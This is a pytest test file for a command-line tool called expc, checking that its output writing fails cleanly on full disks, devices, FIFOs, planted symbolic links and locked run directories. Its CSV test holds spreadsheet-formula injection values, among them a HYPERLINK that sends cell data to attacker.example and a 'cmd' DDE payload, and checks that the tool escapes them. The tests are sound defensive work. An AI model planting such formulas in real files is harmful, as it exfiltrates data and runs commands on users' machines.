"""Where the commands write: one clear line and exit 1 for an output that cannot be written, nothing outside a run.

Outputs named with ``-o`` and run directories, against full disks, read-only
folders, paths under a file, /proc, devices, FIFOs, planted links, foreign
folders, hand-edited plans and two runs at once; the hostile inputs are in
tests/fixtures/hostile (README there). Exit code 1 for every file expc cannot
write (as for a file it cannot read), 3 for a run directory another run holds.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import ROOT, static_run_spec

from expc.cli import main

WELCOME = ROOT / "specs" / "welcome-email.yaml"
HOSTILE = ROOT / "tests" / "fixtures" / "hostile"

SPEC = static_run_spec("outputs-run", 3, 2000)


def run(*args: Any, cwd: Path | None = None):
    old = os.getcwd()
    if cwd is not None:
        os.chdir(cwd)
    try:
        result = CliRunner().invoke(main, [str(a) for a in args])
    finally:
        os.chdir(old)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def error_line(result: Any) -> str:
    """The one ``error:`` line of a failed command (and no traceback)."""
    lines = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.output and "internal error" not in result.output
    return lines[0]


def expc(*args: Any, cwd: Path | None = None, timeout: float = 300) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "expc", *map(str, args)], capture_output=True, text=True,
                          cwd=cwd, timeout=timeout)


def device(tmp_path: Path, name: str, minor: int) -> Path:
    """/dev/full (7) or /dev/null (3): as root a copy of the node in tmp_path (not the real one), else the real one."""
    if os.geteuid() != 0:
        return Path(f"/dev/{name}")
    path = tmp_path / name
    os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, minor))
    return path


def spec_file(tmp_path: Path) -> Path:
    path = tmp_path / "spec.yaml"
    path.write_text(SPEC, encoding="utf-8")
    return path


# ---------------------------------------------------------------- -o: devices, FIFOs, links, bad places


@pytest.mark.parametrize("command", [("compile",), ("export", "--to", "growthbook", "--values", "variant")])
def test_a_full_device_is_one_line_with_exit_1_and_stays_a_device(tmp_path: Path, command: tuple[str, ...]) -> None:
    full = device(tmp_path, "full", 7)
    result = run(*command, WELCOME, "-o", full)
    assert result.exit_code == 1
    assert error_line(result) == f"error: {full}: cannot write: No space left on device"
    assert stat.S_ISCHR(os.lstat(full).st_mode)


def test_assign_to_a_full_device_is_one_line_with_exit_1(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("assign picks the format by the extension: needs a device named *.csv, made by root")
    full = tmp_path / "full.csv"
    os.mknod(full, 0o666 | stat.S_IFCHR, os.makedev(1, 7))
    result = run("assign", WELCOME, "--units", HOSTILE / "formula-ids.csv", "-o", full)
    assert result.exit_code == 1
    assert error_line(result).startswith(f"error: {full}: cannot write: No space left on device")
    assert stat.S_ISCHR(os.lstat(full).st_mode)


def test_a_null_device_takes_the_plan_and_is_not_replaced(tmp_path: Path) -> None:
    null = device(tmp_path, "null", 3)
    assert run("compile", WELCOME, "-o", null).exit_code == 0
    assert stat.S_ISCHR(os.lstat(null).st_mode)


def test_a_fifo_receives_the_plan_and_stays_a_fifo(tmp_path: Path) -> None:
    fifo = tmp_path / "plan.pipe"
    os.mkfifo(fifo)
    reader = subprocess.Popen([sys.executable, "-c", "import sys; print(len(open(sys.argv[1], 'rb').read()))",
                               str(fifo)], stdout=subprocess.PIPE, text=True)
    try:
        for _ in range(200):  # until the reader has the FIFO open (a FIFO nobody reads is refused, not waited on)
            result = expc("compile", WELCOME, "-o", fifo)
            if result.returncode == 0:
                break
            assert "no process is reading" in result.stderr
        assert result.returncode == 0, result.stderr
        assert int(reader.communicate(timeout=30)[0]) == len(run("compile", WELCOME).stdout.encode())
    finally:
        reader.kill()
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_a_link_planted_at_the_output_is_refused_and_its_target_kept(tmp_path: Path) -> None:
    victim = tmp_path / "bashrc"
    victim.write_text("export PATH=...\n")
    (tmp_path / "build").mkdir()
    (tmp_path / "build" / "plan.json").symlink_to(victim)  # as a pull request could commit it
    result = run("compile", WELCOME, "-o", tmp_path / "build" / "plan.json")
    assert result.exit_code == 1
    assert "is a symbolic link" in error_line(result)
    assert victim.read_text() == "export PATH=...\n"


@pytest.mark.parametrize("command", [("compile", WELCOME),
                                     ("export", WELCOME, "--to", "growthbook", "--values", "variant"), ("init",)])
def test_an_output_under_a_regular_file_is_one_line_naming_it(tmp_path: Path, command: tuple[Any, ...]) -> None:
    (tmp_path / "notes").write_text("a file")
    target = tmp_path / "notes" / "sub" / "out.json"
    args = (*command, target) if command == ("init",) else (*command, "-o", target)
    result = run(*args)
    assert result.exit_code == 1
    assert error_line(result) == f"error: {target}: cannot write: {tmp_path / 'notes'} is a file, not a folder"


def test_assign_under_a_regular_file_names_the_file_in_the_way(tmp_path: Path) -> None:
    (tmp_path / "notes").write_text("a file")
    target = tmp_path / "notes" / "out.csv"
    result = run("assign", WELCOME, "--units", HOSTILE / "formula-ids.csv", "-o", target)
    assert result.exit_code == 1
    assert error_line(result) == f"error: {target}: cannot write: {tmp_path / 'notes'} is a file, not a folder"


@pytest.mark.parametrize("target", ["/proc/expc-plan.json", "/proc/sys/kernel/expc", "/sys/kernel/expc.json"])
def test_proc_and_sys_are_one_line(target: str) -> None:
    result = run("compile", WELCOME, "-o", target)
    assert result.exit_code == 1
    assert error_line(result).startswith(f"error: {target}: is in /")


def test_generate_output_and_store_errors_are_one_line(tmp_path: Path) -> None:
    full = device(tmp_path, "full", 7)
    result = run("generate", WELCOME, "--offline", "--quiet", "--store", tmp_path / "s.sqlite", "-o", full)
    assert result.exit_code == 1 and error_line(result) == f"error: {full}: cannot write: No space left on device"
    (tmp_path / "notes").write_text("a file")
    result = run("generate", WELCOME, "--offline", "--quiet", "--store", tmp_path / "notes" / "s.sqlite")
    assert result.exit_code == 1 and "notes is a file, not a folder" in error_line(result)


def test_new_files_follow_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        assert run("compile", WELCOME, "-o", tmp_path / "plan.json").exit_code == 0
        assert run("assign", WELCOME, "--units", HOSTILE / "formula-ids.csv", "-o", tmp_path / "a.csv").exit_code == 0
        assert run("run", spec_file(tmp_path), "--run-dir", tmp_path / "run", "--quiet").exit_code == 0
    finally:
        os.umask(old)
    written = [tmp_path / "plan.json", tmp_path / "a.csv", *(tmp_path / "run").rglob("*.json"),
               *(tmp_path / "run").glob("*.parquet"), tmp_path / "run" / "report.html"]
    assert {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in written} == {p.name: "0o644" for p in written}


# ---------------------------------------------------------------- CSV: spreadsheet formulas


def test_assign_csv_escapes_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
    out = tmp_path / "assignments.csv"
    result = run("assign", WELCOME, "--units", HOSTILE / "formula-ids.csv", "-o", out)
    assert result.exit_code == 0, result.output
    import csv

    with open(out, newline="", encoding="utf-8") as f:
        ids = [row["user_id"] for row in csv.DictReader(f)]
    assert ids == ["'=HYPERLINK(\"http://attacker.example/?\"&A1,\"open me\")", "'+1+cmd|' /C calc'!A0",
                   "'-2+3+cmd", "'@SUM(A1:A9)", "'\tTAB", "'\rCR", "-42", "+7", "plain-user"]
    stdout = run("assign", WELCOME, "--units", HOSTILE / "formula-ids.csv").stdout
    assert stdout.splitlines()[1].startswith("\"'=HYPERLINK(")


def test_jsonl_and_parquet_keep_the_ids_as_they_are(tmp_path: Path) -> None:
    out = tmp_path / "assignments.jsonl"
    assert run("assign", WELCOME, "--units", HOSTILE / "formula-ids.csv", "-o", out).exit_code == 0
    ids = [json.loads(line)["user_id"] for line in out.read_text(encoding="utf-8").splitlines()]
    assert ids[0].startswith("=HYPERLINK(") and ids[3] == "@SUM(A1:A9)"


# ---------------------------------------------------------------- run directories


def test_fresh_on_a_folder_that_is_not_a_run_is_refused_and_deletes_nothing(tmp_path: Path) -> None:
    folder = tmp_path / "not-a-run"
    shutil.copytree(HOSTILE / "not-a-run", folder)
    before = sorted(p.name for p in folder.iterdir())
    result = run("run", spec_file(tmp_path), "--run-dir", folder, "--fresh", "--quiet")
    assert result.exit_code == 1
    assert "not an expc run directory" in error_line(result)
    assert sorted(p.name for p in folder.iterdir()) == before
    assert (folder / "report.md").read_text() == (HOSTILE / "not-a-run" / "report.md").read_text()


def test_a_hand_edited_plan_cannot_move_its_run_out_of_expc_runs(tmp_path: Path) -> None:
    work = tmp_path / "a" / "b" / "c" / "work"
    work.mkdir(parents=True)
    plan = json.loads(run("compile", spec_file(tmp_path)).stdout)
    plan["experiment"].update(json.loads((HOSTILE / "plan-id-escape.patch.json").read_text())["experiment"])
    (work / "plan.json").write_text(json.dumps(plan))
    result = run("run", "plan.json", "--quiet", "--fresh", cwd=work)
    assert result.exit_code == 1
    error_line(result)  # one line: refused as a plan, or as a run directory
    assert not list(tmp_path.rglob("escaped-run")) and not (work / ".expc").exists()


def test_a_link_planted_in_a_run_directory_is_refused_and_nothing_outside_changes(tmp_path: Path) -> None:
    spec = spec_file(tmp_path)
    run_dir = tmp_path / "run"
    assert run("run", spec, "--run-dir", run_dir, "--quiet").exit_code == 0
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.rmtree(run_dir / "looks")
    (run_dir / "looks").symlink_to(outside, target_is_directory=True)
    result = run("run", spec, "--run-dir", run_dir, "--quiet", "--fresh")
    assert result.exit_code == 1
    assert error_line(result).startswith(f"error: {run_dir / 'looks'}: is a symbolic link")
    assert list(outside.iterdir()) == []


def test_a_second_run_on_a_held_directory_exits_3_with_one_line(tmp_path: Path) -> None:
    spec = spec_file(tmp_path)
    run_dir = tmp_path / "run"
    assert run("run", spec, "--run-dir", run_dir, "--quiet").exit_code == 0
    holder = subprocess.Popen(
        [sys.executable, "-c", ("import fcntl, sys, time; f = open(sys.argv[1], 'a'); "
                                "fcntl.flock(f, fcntl.LOCK_EX); print('held', flush=True); time.sleep(60)"),
         str(run_dir / ".expc.lock")],
        stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        second = expc("run", spec, "--run-dir", run_dir, "--quiet")
    finally:
        holder.kill()
        holder.wait()
    assert second.returncode == 3
    expected = (f"error: {run_dir}: another expc run is using this run directory; wait for it to finish and run "
                "the same command again, or give another --run-dir")
    assert [line for line in second.stderr.splitlines() if line.startswith("error:")] == [expected]
    assert expc("run", spec, "--run-dir", run_dir, "--quiet").returncode == 0


def test_two_runs_started_together_never_interleave(tmp_path: Path) -> None:
    spec = spec_file(tmp_path)
    run_dir = tmp_path / "run"
    command = [sys.executable, "-m", "expc", "run", str(spec), "--run-dir", str(run_dir), "--quiet"]
    procs = [subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
             for _ in range(2)]
    outcomes = sorted((p.wait(300), p.stderr.read()) for p in procs)
    codes = [code for code, _ in outcomes]
    assert codes in ([0, 0], [0, 3]), outcomes  # the second resumed after the first, or was refused while it ran
    if codes == [0, 3]:
        assert "another expc run is using this run directory" in outcomes[1][1]
    report = json.loads((run_dir / "report.json").read_text())
    assert len(report["history"]) == 3


# ---------------------------------------------------------------- real full and read-only file systems


def namespace(script: str, cwd: Path) -> subprocess.CompletedProcess:
    """Run ``script`` (sh) in a private mount namespace, where it may mount a small or read-only file system."""
    if shutil.which("unshare") is None:
        pytest.skip("needs unshare(1) to mount a file system privately")
    probe = subprocess.run(["unshare", "-m", "sh", "-c", f"mount -t tmpfs tmpfs {cwd}"], capture_output=True)
    if probe.returncode != 0:
        pytest.skip("cannot mount in a private namespace here (needs root or user namespaces)")
    env = {**os.environ, "EXPC": f"{sys.executable} -m expc"}
    return subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True, cwd=cwd, env=env,
                          timeout=600)


def test_a_full_disk_during_a_run_is_one_line_and_the_run_resumes_once_there_is_room(tmp_path: Path) -> None:
    spec_file(tmp_path)
    (tmp_path / "mnt").mkdir()
    done = namespace("""
        mount -t tmpfs -o size=40k tmpfs mnt || exit 99
        $EXPC run spec.yaml --run-dir mnt/run --quiet >/dev/null 2>first.err; echo "first $?"
        cp mnt/run/state.json state-after-failure.json
        mount -o remount,size=20m mnt
        $EXPC run spec.yaml --run-dir mnt/run --quiet >/dev/null 2>second.err; echo "second $?"
        ls -a mnt/run > listing.txt
    """, tmp_path)
    assert done.stdout.split() == ["first", "1", "second", "0"], done.stderr
    errors = [line for line in (tmp_path / "first.err").read_text().splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and errors[0].startswith("error: mnt/run/") and "No space left on device" in errors[0]
    assert json.loads((tmp_path / "state-after-failure.json").read_text())["identity"]["experiment"] == "outputs-run"
    assert "report.html" in (tmp_path / "listing.txt").read_text().split()
    assert not [n for n in (tmp_path / "listing.txt").read_text().split() if n.endswith(".tmp")]


def test_a_read_only_run_directory_is_one_line_naming_it(tmp_path: Path) -> None:
    spec_file(tmp_path)
    (tmp_path / "ro").mkdir()
    done = namespace("""
        mount -o bind,ro ro ro || exit 99
        $EXPC run spec.yaml --run-dir ro/run --quiet >/dev/null 2>run.err; echo "run $?"
        $EXPC compile spec.yaml -o ro/plan.json 2>compile.err; echo "compile $?"
    """, tmp_path)
    assert done.stdout.split() == ["run", "1", "compile", "1"], done.stderr
    for name, path in (("run.err", "ro/run"), ("compile.err", "ro/plan.json")):
        lines = (tmp_path / name).read_text().splitlines()
        errors = [line for line in lines if line.startswith("error:")]
        assert len(errors) == 1 and errors[0].startswith(f"error: {path}: cannot write: Read-only file system"), lines
        assert "Traceback" not in "\n".join(lines)


def test_permission_denied_is_one_line_naming_the_path(tmp_path: Path) -> None:
    folder = tmp_path / "locked"
    folder.mkdir(mode=0o555)
    if os.geteuid() == 0:
        if not hasattr(os, "setresuid"):
            pytest.skip("root ignores mode bits, and cannot drop to another user here")
        tmp_path.chmod(0o755)
        tmp_path.parent.chmod(0o755)
        try:
            result = subprocess.run([sys.executable, "-m", "expc", "compile", str(WELCOME), "-o",
                                     str(folder / "p.json")], capture_output=True, text=True, user=65534,
                                    group=65534, timeout=120, env={**os.environ, "HOME": str(tmp_path)})
        except PermissionError:
            pytest.skip("root ignores mode bits, and the user nobody cannot run this Python")
        if "error:" not in result.stderr:
            pytest.skip("root ignores mode bits, and the user nobody cannot run expc from this checkout")
        code, stderr = result.returncode, result.stderr
    else:
        result = run("compile", WELCOME, "-o", folder / "p.json")
        code, stderr = result.exit_code, result.stderr
    assert code == 1, stderr
    assert [line for line in stderr.splitlines() if line.startswith("error:")] == [
        f"error: {folder / 'p.json'}: cannot write: Permission denied"]
